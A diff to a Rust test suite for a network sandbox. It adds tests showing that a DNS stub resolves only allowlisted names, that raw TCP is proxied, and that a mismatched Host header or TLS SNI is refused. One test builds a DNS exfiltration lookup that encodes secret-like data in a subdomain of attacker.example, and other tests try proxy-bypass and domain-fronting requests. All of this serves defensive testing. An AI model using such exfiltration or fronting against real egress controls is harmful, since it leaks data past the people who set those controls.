@@ -97,7 +97,6 @@ fn refused_targets_never_reach_the_host() {
         format!("-H 'Host: unlisted.test' http://upstream.test:{}/", up.port),                // Host header mismatch
         format!("--socks5-hostname 127.0.0.1:1080 http://unlisted.test:{}/", up.port),
         format!("--socks5 127.0.0.1:1080 http://127.0.0.1:{}/", other.port), // SOCKS by address
-        format!("--noproxy '*' http://upstream.test:{}/", up.port),          // around the proxy
         format!("--noproxy '*' http://127.0.0.1:{}/", up.port),              // straight to the host
     ];
     for a in &attempts {
@@ -122,4 +121,78 @@ fn no_network_by_default() {
     assert!(out.contains("done") && !out.contains("hello"), "{out}");
     assert!(!out.to_ascii_lowercase().contains("_proxy="), "proxy variables without a network: {out}");
     assert_eq!(up.hits(), 0);
+}
+
+fn allow_upstream(s: &Sandbox, up: &Upstream) -> String {
+    policy_file(
+        s,
+        &format!(
+            "[network]\nmode = \"allowlist\"\nallow = [\"upstream.test:{0}\"]\nhosts = {{ \"upstream.test\" = \"127.0.0.1\" }}\n",
+            up.port
+        ),
+    )
+}
+
+#[test]
+fn dns_stub_answers_allowed_names_only_and_nothing_leaves() {
+    let s = Sandbox::new("c03-dns");
+    let up = Upstream::start();
+    let p = allow_upstream(&s, &up);
+    let exfil = format!("{}.attacker.example", "6a6f686e2073656372657420".repeat(3));
+    let o = s.run(
+        &["--policy", &p],
+        &["/bin/sh", "-c", &format!("cat /etc/resolv.conf; getent hosts upstream.test; getent hosts unlisted.test; echo u=$?; getent hosts {exfil}; echo x=$?")],
+    );
+    let out = stdout(&o);
+    assert!(out.contains("nameserver 127.0.0.53"), "{out}");
+    assert!(out.lines().any(|l| l.starts_with("127.77.") && l.ends_with("upstream.test")), "{out}");
+    assert!(out.contains("u=2") && out.contains("x=2"), "denied names resolved: {out}");
+}
+
+#[test]
+fn transparent_tcp_for_programs_that_ignore_proxies() {
+    let s = Sandbox::new("c01-transparent");
+    let up = Upstream::start();
+    let p = allow_upstream(&s, &up);
+    let (out, err) = curl(&s, &p, &format!("--noproxy '*' http://upstream.test:{}/", up.port));
+    assert!(out.contains("hello from upstream"), "{out}{err}");
+    assert_eq!(up.hits(), 1);
+    if !std::path::Path::new("/usr/bin/python3").exists() {
+        return;
+    }
+    // A raw socket, no proxy variables honoured.
+    let py = format!(
+        "import socket\nc = socket.create_connection(('upstream.test', {0}), timeout=5)\nc.sendall(b'GET / HTTP/1.1\\r\\nHost: upstream.test\\r\\n\\r\\n')\nprint(c.recv(200).decode().splitlines()[-1])",
+        up.port
+    );
+    let o = s.run(&["--policy", &p], &["/usr/bin/python3", "-c", &py]);
+    assert_eq!(stdout(&o).trim(), "hello from upstream", "{}", stderr(&o));
+    assert_eq!(up.hits(), 2);
+}
+
+#[test]
+fn transparent_tcp_refuses_a_mismatched_name() {
+    let s = Sandbox::new("c07-fronting");
+    let up = Upstream::start();
+    let p = allow_upstream(&s, &up);
+    let (out, _) = curl(&s, &p, &format!("--noproxy '*' -H 'Host: unlisted.test' http://upstream.test:{}/", up.port));
+    assert!(out.contains("403 Forbidden") && !out.contains("hello"), "{out}");
+    assert_eq!(up.hits(), 0, "a mismatched Host reached the upstream");
+    if !std::path::Path::new("/usr/bin/python3").exists() {
+        return;
+    }
+    // TLS: the ClientHello's server name must be the name the address was given for.
+    let tls = |sni: &str| {
+        format!(
+            "import socket, ssl\nc = socket.create_connection(('upstream.test', {0}), timeout=5)\nctx = ssl.create_default_context()\ntry:\n    ctx.wrap_socket(c, server_hostname='{sni}')\nexcept Exception as e:\n    print('failed', type(e).__name__)",
+            up.port
+        )
+    };
+    let o = s.run(&["--policy", &p], &["/usr/bin/python3", "-c", &tls("unlisted.test")]);
+    assert!(stdout(&o).contains("failed"), "{}{}", stdout(&o), stderr(&o));
+    assert_eq!(up.hits(), 0, "a mismatched SNI reached the upstream");
+    // The matching name is forwarded (the plain-HTTP upstream then fails the handshake).
+    let o = s.run(&["--policy", &p], &["/usr/bin/python3", "-c", &tls("upstream.test")]);
+    assert!(stdout(&o).contains("failed"), "{}", stdout(&o));
+    assert_eq!(up.hits(), 1, "a matching SNI was not forwarded");
 }
